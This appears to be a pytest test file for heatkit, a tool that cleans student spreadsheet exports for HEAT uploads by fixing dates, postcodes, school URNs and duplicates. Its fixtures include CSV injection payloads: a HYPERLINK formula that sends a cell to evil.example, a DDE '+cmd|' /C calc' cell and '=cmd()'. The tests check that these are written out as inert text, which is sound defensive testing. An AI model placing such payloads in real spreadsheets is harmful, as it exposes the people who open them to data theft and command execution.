"""The clean job and the ``heatkit`` command on files saved the way a WP officer saves them:
an Excel export with a title row, its own headers, school names, ``Yr 10``, ``Prefer not to say``,
Excel serial dates, blank rows and a total row (written by xlsxwriter, xlwt and odfpy, writers
heatkit does not use), and CSV injection in cells."""

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import heatkit

HEADER = ["Forename", "Surname", "Date of Birth", "Home Postcode", "School/College", "Year Group", "Gender",
          "Consent"]
# (forename, surname, dob as written, postcode, school, year group, gender, consent)
STUDENTS = [
    ("Zoë", "O'Brien", dt.date(2011, 9, 1), "ls1 4ap", "Oakfield Academy", "Yr 10", "Female", "Yes"),
    ("George", "Wilson", 40787, "M1 1AE", "Oakfield Academy", "Yr 10", "Male", "Yes"),  # serial of 2011-09-01
    ("Megan", "Evans", "03/02/2011", "CF10 1AA", "Oakfield Academy", "Year 11", "Prefer not to say", "Yes"),
    ("Ann", "Lee", "31/02/2011", "LS1 4AP", "Oakfield Academy", "Yr 10", "Female", "No"),  # no such day
    ("Sam", "Reid", dt.date(2012, 1, 5), "M1 IAE", "Oakfield Academy", "Yr 9", "Male", "Yes"),  # I for 1
    ("Zoe", "O'Brien", dt.date(2011, 9, 1), "LS1 4AP", "Oakfield Academy", "Yr 10", "Female", "Yes"),  # copy
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "Khan", dt.date(2011, 5, 5), "LS1 4AP",
     "Oakfield Academy", "Yr 10", "Female", "Yes"),
    ("Amir", "+cmd|' /C calc'!A0", dt.date(2011, 6, 6), "LS1 4AP", "Oakfield Academy", "Yr 10", "Male", "Yes"),
]


def officer_xlsx(path: Path) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Year 10 outreach")
    title = wb.add_format({"bold": True})
    date = wb.add_format({"num_format": "dd/mm/yyyy"})
    ws.merge_range(0, 0, 0, 7, "Oakfield Academy: students for HEAT, exported 01/12/2026", title)
    for c, h in enumerate(HEADER):
        ws.write_string(2, c, h)
    r = 3
    for i, s in enumerate(STUDENTS):
        if i == 4:
            r += 1  # a blank row inside the data
        for c, v in enumerate(s):
            if isinstance(v, dt.date):
                ws.write_datetime(r, c, dt.datetime(v.year, v.month, v.day), date)
            elif isinstance(v, int):
                ws.write_number(r, c, v)
            else:
                ws.write_string(r, c, v)
        r += 1
    for c in range(8):
        ws.write_blank(r, c, None, date)  # formatted but empty: Excel's trailing "rows"
    ws.write_string(r + 1, 0, "Total")
    ws.write_formula(r + 1, 1, f"=COUNTA(B4:B{r})", None, len(STUDENTS))
    wb.close()
    return path


def heatkit_command(*args: str, stdin=None) -> subprocess.CompletedProcess:
    """The installed console script (as a user runs it), falling back to ``python -m heatkit``."""
    script = Path(sys.executable).with_name("heatkit")
    cmd = [str(script)] if script.exists() else [sys.executable, "-m", "heatkit"]
    return subprocess.run(cmd + list(args), capture_output=True, text=True, stdin=stdin, timeout=120)


def test_the_officer_export_cleans_end_to_end(tmp_path):
    path = officer_xlsx(tmp_path / "Oakfield students.xlsx")
    out = heatkit.clean(path, on="2026-12-01", kind="dict")
    s = out.summary
    assert (s["read_as"], s["sheet"], s["header_row"]) == ("xlsx", "Year 10 outreach", 3)
    # 8 students; the blank row, the formatted empty row and the total row are skipped.
    assert (s["rows_in"], s["skipped"]) == (8, 3)
    assert s["rows_in"] == s["ok"] + s["fixed"] + s["needs_attention"] + s["rejected"]
    st = out.students
    assert st["row"] == [4, 5, 6, 7, 9, 10, 11, 12]
    assert st["date_of_birth"][:3] == ["2011-09-01", "2011-09-01", "2011-02-03"]
    assert st["first_name"][0] == "Zoë"  # accents kept
    assert st["gender"][2] == "U"  # "Prefer not to say": not known
    assert st["year_group"][:3] == ["Year 10", "Year 10", "Year 11"]
    assert st["school_id"][0] == "Oakfield Academy"
    status = dict(zip(st["row"], st["status"]))
    assert status[7] == "rejected"  # 31/02/2011
    assert status[9] == "needs attention"  # postcode fixed, but the school is a name
    assert st["postcode"][4] == "M1 1AE"
    assert st["duplicate_of_row"][5] == 4  # Zoe O'Brien is Zoë O'Brien again
    problems = list(zip(out.problems["row"], out.problems["code"], out.problems["problem"]))
    assert (7, "bad_date", 'Date of birth "31/02/2011" is not a real date, or is written in a way heatkit '
            "cannot read: write it as day/month/year, e.g. 31/08/2011.") in problems
    assert any(r == 14 and code == "total_row_skipped" for r, code, _ in problems)
    # Plain English: no snake_case jargon in what a person reads.
    assert not [p for _, _, p in problems if "_" in p.split('"')[0]]


def test_heatkit_clean_command_writes_xlsx_and_csv(tmp_path):
    path = officer_xlsx(tmp_path / "students.xlsx")
    done = heatkit_command("clean", str(path), "--out", str(tmp_path / "out"), "--on", "2026-12-01")
    assert done.returncode == 0, done.stderr
    assert "8 rows in = " in done.stdout and "formula-like cells written as text: " in done.stdout
    book = tmp_path / "out" / "students.xlsx"
    with zipfile.ZipFile(book) as z:
        names = z.namelist()
        sheets = [n for n in names if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4  # Cleaned, Problems, Duplicates, Summary
        workbook_xml = z.read("xl/workbook.xml").decode()
        for name in ("Cleaned", "Problems", "Duplicates", "Summary"):
            assert f'name="{name}"' in workbook_xml
        # Nothing heatkit writes is a formula: the HYPERLINK cell is text.
        assert all(b"<f>" not in z.read(n) for n in sheets)
    from heatkit._heatkit import _read_table

    _, fmt, rows = _read_table(book.read_bytes(), "Cleaned")
    assert fmt == "xlsx" and len(rows) == 9
    header = rows[0][1]
    cells = {r[1][header.index("row")]: r[1] for r in rows[1:]}
    assert cells["10"][header.index("status")] == "needs attention"
    assert cells["10"][header.index("duplicate_of_row")] == "4"

    done = heatkit_command("clean", str(path), "--out", str(tmp_path / "csv"), "--format", "csv", "--on",
                           "2026-12-01")
    assert done.returncode == 0, done.stderr
    raw = (tmp_path / "csv" / "students_cleaned.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel on Windows reads Zoë as typed
    rows = list(csv.DictReader(open(tmp_path / "csv" / "students_cleaned.csv", encoding="utf-8-sig")))
    assert len(rows) == 8
    assert rows[6]["first_name"].startswith("'=HYPERLINK(")
    assert rows[7]["last_name"] == "'+cmd|' /C calc'!A0"
    assert "formula-like cells written as text: 2" in done.stdout


def test_ods_and_xls_read_as_the_xlsx(tmp_path):
    import xlwt
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    rows = [["Export of 1 Dec 2026"], [], ["First name", "Surname", "DOB", "Postcode"],
            ["Zoë", "Lee", "2011-09-01", "ls1 4ap"], ["Ann", "Reid", "01/02/2012", "M1 1AE"], ["Total", "2"]]
    ods = OpenDocumentSpreadsheet()
    table = Table(name="Students")
    for r in rows:
        tr = TableRow()
        for v in r:
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=v))
            tr.addElement(cell)
        table.addElement(tr)
    ods.spreadsheet.addElement(table)
    ods.save(str(tmp_path / "students.ods"))
    book = xlwt.Workbook()
    ws = book.add_sheet("Students")
    for i, r in enumerate(rows):
        for j, v in enumerate(r):
            ws.write(i, j, v)
    book.save(str(tmp_path / "students.xls"))
    for name, fmt in (("students.ods", "ods"), ("students.xls", "xls")):
        out = heatkit.validate_import(tmp_path / name, kind="dict", on="2026-12-01")
        s = out.summary
        assert (s["encoding"], s["sheet"], s["header_row"]) == (fmt, "Students", 3), name
        assert (s["rows_in"], s["rows_ok"], s["rows_skipped"]) == (2, 2, 1), name
        assert out.rows["first_name"] == ["Zoë", "Ann"]
        assert out.rows["date_of_birth"] == ["2011-09-01", "2012-02-01"]
        assert out.rows["row"] == [4, 5]


def test_a_password_protected_workbook_is_one_clear_error(tmp_path):
    import msoffcrypto.format.ooxml  # noqa: F401 (the encryptor)
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = officer_xlsx(tmp_path / "plain.xlsx")
    locked = tmp_path / "locked.xlsx"
    with open(plain, "rb") as f, open(locked, "wb") as g:
        OOXMLFile(f).encrypt("secret", g)
    with pytest.raises(heatkit.ImportFileError) as e:
        heatkit.clean(locked)
    assert e.value.code == "protected_workbook"
    done = heatkit_command("clean", str(locked), "--out", str(tmp_path / "out"))
    assert done.returncode == 1
    assert done.stderr.startswith("heatkit: error: the workbook is password-protected;")
    assert done.stderr.rstrip().endswith("[protected_workbook]")
    assert "Traceback" not in done.stderr


def test_command_errors_and_help():
    done = heatkit_command("clean", "/no/such/students.xlsx")
    assert done.returncode == 1 and "[unreadable_file]" in done.stderr and "Traceback" not in done.stderr
    done = heatkit_command("clean")
    assert done.returncode == 2 and "usage: heatkit clean" in done.stderr
    done = heatkit_command("--help")
    assert done.returncode == 0
    for text in ("examples:", "heatkit clean students.xlsx", "exit codes:", "postcodes", "dedupe", "link"):
        assert text in done.stdout
    done = heatkit_command("frobnicate")
    assert done.returncode == 2


def test_postcodes_dedupe_and_link_commands(tmp_path):
    src = tmp_path / "students.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["First Name", "Surname", "DOB", "Home Postcode", "School"])
        w.writerow(["Amelia", "Khan", "2011-09-01", "ls1 4ap", "107956"])
        w.writerow(["Amelia", "Khan", "01/09/2011", "LS1 4AP", "107956"])
        w.writerow(["Jack", "Reid", "2011-02-03", "CRO 2YR", "107956"])
        w.writerow(["Ola", "Nowak", "2012-03-04", "MA1 1AA", "107956"])
        w.writerow(["Zac", "Dunn", "2012-04-05", "B81 4LS", "107956"])
    done = heatkit_command("postcodes", str(src), "--column", "home postcode", "--out", str(tmp_path / "pc.csv"))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(open(tmp_path / "pc.csv", encoding="utf-8-sig")))
    assert [(r["row"], r["postcode"], r["status"]) for r in rows] == [
        ("2", "LS1 4AP", "valid"), ("3", "LS1 4AP", "valid"), ("4", "CR0 2YR", "fixed"), ("5", "", "invalid"),
        ("6", "", "check")]
    assert rows[4]["candidates"] == "B71 4LS (neighbour_digit); B18 4LS (transposed); B8 1LS (extra)"
    done = heatkit_command("postcodes", str(src), "--column", "Postcode")
    assert done.returncode == 1 and "no column 'Postcode'" in done.stderr

    done = heatkit_command("dedupe", str(src), "--out", str(tmp_path / "pairs.csv"))
    assert done.returncode == 0, done.stderr
    pairs = list(csv.DictReader(open(tmp_path / "pairs.csv", encoding="utf-8-sig")))
    assert [(p["row_l"], p["row_r"]) for p in pairs] == [("2", "3")]

    export = tmp_path / "export.csv"
    with open(export, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["Forename", "Surname", "Date of Birth", "Postcode"])
        w.writerow(["Ola", "Nowak", "2012-03-04", "M1 1AE"])
        w.writerow(["Amelia", "Khan", "2011-09-01", "LS1 4AP"])
    done = heatkit_command("link", str(src), str(export), "--out", str(tmp_path / "links.csv"))
    assert done.returncode == 0, done.stderr
    links = list(csv.DictReader(open(tmp_path / "links.csv", encoding="utf-8-sig")))
    assert sorted((p["row_l"], p["row_r"]) for p in links) == [("2", "3"), ("3", "3")]
    stem = src.stem
    new = list(csv.DictReader(open(tmp_path / f"{stem}_new_students.csv", encoding="utf-8-sig")))
    assert [(n["row"], n["first_name"]) for n in new] == [("4", "Jack"), ("6", "Zac")]
    assert "export rows two upload rows matched (duplicates in the upload): 3" in done.stdout


def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
    path = officer_xlsx(tmp_path / "students.xlsx")
    script = Path(sys.executable).with_name("heatkit")
    cmd = f"'{script}' clean '{path}' --out '{tmp_path / 'out'}' | head -c 1"
    for _ in range(3):
        done = subprocess.run(["bash", "-c", f"set -o pipefail; {cmd}"], capture_output=True, text=True,
                              timeout=120, env={**os.environ})
        assert done.returncode == 0, done.stderr
        assert done.stderr == ""


SCHOOLS = Path(__file__).resolve().parents[2] / "tests" / "cases" / "schools"
GIAS_HEADER = ("URN,EstablishmentName,LA (code),EstablishmentNumber,Postcode,Town,EstablishmentStatus (name),"
               "PhaseOfEducation (name)")


def test_school_names_are_matched_to_the_gias_extract(tmp_path):
    # The officer's "Oakfield Academy" against a one-Oakfield extract (Windows-1252, as GIAS saves it).
    gias = tmp_path / "edubasealldata.csv"
    gias.write_bytes((GIAS_HEADER + "\r\n107960,Oakfield Academy,383,4604,LS12 3CD,Leeds,Open,Secondary\r\n"
                      "107999,Oakfield Académie Française,383,4699,LS12 3CE,Leeds,Open,Secondary\r\n")
                     .encode("cp1252"))
    path = officer_xlsx(tmp_path / "students.xlsx")
    out = heatkit.clean(path, on="2026-12-01", schools=gias, kind="dict")
    st = out.students
    assert set(st["school_id"]) == {"107960"}
    status = dict(zip(st["row"], st["status"]))
    assert status[4] == "fixed"  # the school's name read as its URN
    codes = [(r, c) for r, c in zip(out.problems["row"], out.problems["code"]) if c.startswith("school")]
    assert (4, "school_from_name") in codes
    assert not [c for c in out.problems["code"] if c == "bad_school_id"]
    message = out.problems["problem"][out.problems["code"].index("school_from_name")]
    assert message == 'School "Oakfield Academy" was read as Oakfield Academy (107960, Leeds, LS12 3CD): the exact name.'

    # The shared fixture holds two open Oakfield Academies: listed, never guessed.
    done = heatkit_command("clean", str(path), "--out", str(tmp_path / "out"), "--on", "2026-12-01", "--format",
                           "csv", "--schools", str(SCHOOLS / "gias_extract.csv"), "--heat-institutions",
                           str(SCHOOLS / "heat_institutions.csv"))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(open(tmp_path / "out" / "students_problems.csv", encoding="utf-8-sig")))
    ambiguous = [r for r in rows if r["code"] == "school_ambiguous"]
    assert len(ambiguous) == 8
    assert "(107960, Leeds, LS12 3CD)" in ambiguous[0]["problem"]
    assert "(121000, Thirsk, YO7 1EF)" in ambiguous[0]["problem"]


def test_a_schools_file_without_its_columns_is_one_clear_error(tmp_path):
    bad = tmp_path / "schools.csv"
    bad.write_text("School,Town\nA,B\n")
    with pytest.raises(heatkit.ImportFileError, match="URN and EstablishmentName"):
        heatkit.clean(b"first,last\nAnn,Lee\n", schools=bad)
    done = heatkit_command("clean", str(officer_xlsx(tmp_path / "s.xlsx")), "--schools", str(bad), "--out",
                           str(tmp_path / "out"))
    assert done.returncode == 1 and "URN and EstablishmentName" in done.stderr  # an input cannot be read


def test_name_tidying_is_optional_and_reported(tmp_path):
    csv_bytes = "Forename,Surname,Date of Birth,Home Postcode\nZOË,O'BRIEN,2011-01-02,LS1 4AP\nj0hn,mcdonald,2011-01-03,LS1 4AP\n".encode()
    off = heatkit.clean(csv_bytes, on="2026-12-01", kind="dict")
    assert off.students["first_name"] == ["ZOË", "j0hn"]
    on = heatkit.clean(csv_bytes, on="2026-12-01", tidy_names=True, kind="dict")
    assert on.students["first_name"] == ["Zoë", "J0hn"]  # accents kept, the digit kept and flagged
    assert on.students["last_name"] == ["O'Brien", "McDonald"]
    assert on.students["status"] == ["fixed", "needs attention"]
    assert ("digits_in_name", 'First name "j0hn" holds a digit: check how it is spelt.') in list(
        zip(on.problems["code"], on.problems["problem"]))
    path = tmp_path / "s.csv"
    path.write_bytes(csv_bytes)
    done = heatkit_command("clean", str(path), "--tidy-names", "--format", "csv", "--out", str(tmp_path / "o"),
                           "--on", "2026-12-01")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(open(tmp_path / "o" / "students_cleaned.csv", encoding="utf-8-sig")))
    assert [r["last_name"] for r in rows] == ["O'Brien", "McDonald"]


def test_updates_against_the_heat_export(tmp_path):
    export = tmp_path / "HEAT students export.csv"
    export.write_text("Student HEAT ID,Forename,Surname,Date of Birth,Home Postcode,School,Gender\n"
                      "4001,Ruby,Hall,2011-06-07,M1 1AE,107956,F\n"
                      "4002,Sam,Reid,2010-02-03,LS1 4AP,107956,M\n"
                      "4003,Zoe,Khan,2010-04-05,LS6 2AB,107956,F\n", encoding="utf-8")
    upload = officer_like = tmp_path / "autumn upload.csv"
    officer_like.write_text("Forename,Surname,Date of Birth,Home Postcode,School,Gender\n"
                            "RUBY,HALL,07/06/2011,LS1 4AP,107956,F\n"   # moved house
                            "Sam,Reid,03/02/2010,XX,107957,M\n"          # new school; postcode unreadable
                            "Zoë,Khan,2010-04-05,,107956,F\n"            # accent added, postcode left blank
                            "Amir,Patel,2011-01-01,B1 1AA,107956,M\n"    # new
                            "=cmd(),Jones,2011-02-02,B1 1AA,107956,M\n", encoding="utf-8")  # new, formula
    r = heatkit.upload_updates(upload, export, on="2026-12-01", kind="dict")
    assert r.new["row"] == [5, 6] and r.new["first_name"][0] == "Amir"
    got = list(zip(r.updates["row"], r.updates["student_heat_id"], r.updates["column"], r.updates["old"],
                   r.updates["new"]))
    assert got == [(2, "4001", "postcode", "M1 1AE", "LS1 4AP"), (3, "4002", "school_id", "107956", "107957"),
                   (4, "4003", "first_name", "Zoe", "Zoë")]
    assert r.existing["unreadable"] == ["", "postcode", ""]
    assert r.matched_twice == []
    done = heatkit_command("link", str(upload), str(export), "--out", str(tmp_path / "out" / "links.csv"),
                           "--on", "2026-12-01")
    assert done.returncode == 0, done.stderr
    assert "2 new students, 3 found" in done.stdout and "3 with fields to update" in done.stdout
    rows = list(csv.DictReader(open(tmp_path / "out" / "autumn upload_updates.csv", encoding="utf-8-sig")))
    assert [(u["column"], u["old"], u["new"]) for u in rows][0] == ("postcode", "M1 1AE", "LS1 4AP")
    new = list(csv.DictReader(open(tmp_path / "out" / "autumn upload_new_students.csv", encoding="utf-8-sig")))
    assert [n["first_name"] for n in new] == ["Amir", "'=cmd()"]
    assert "formula-like cells written as text: 1" in done.stdout
    with pytest.raises(heatkit.ImportFileError):
        heatkit.upload_updates(upload, b"")


def test_the_command_reads_a_csv_as_the_import_does(tmp_path: Path) -> None:
    """`heatkit postcodes` reads a CSV with the core's reader: a UTF-16 file (with its BOM) is
    read, and a quoted cell over two lines keeps the spreadsheet row numbers of the lines after."""
    src = tmp_path / "addresses.csv"
    src.write_bytes('Name,Home Postcode\n"Ann\nLee",ls1 4ap\nBo,nope\n'.encode("utf-16"))
    out = tmp_path / "out.csv"
    done = subprocess.run([sys.executable, "-m", "heatkit", "postcodes", str(src), "--column", "Home Postcode",
                           "--out", str(out)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r[:4] for r in rows] == [["row", "input", "postcode", "status"],
                                     ["2", "ls1 4ap", "LS1 4AP", "valid"],
                                     ["4", "nope", "", "invalid"]]
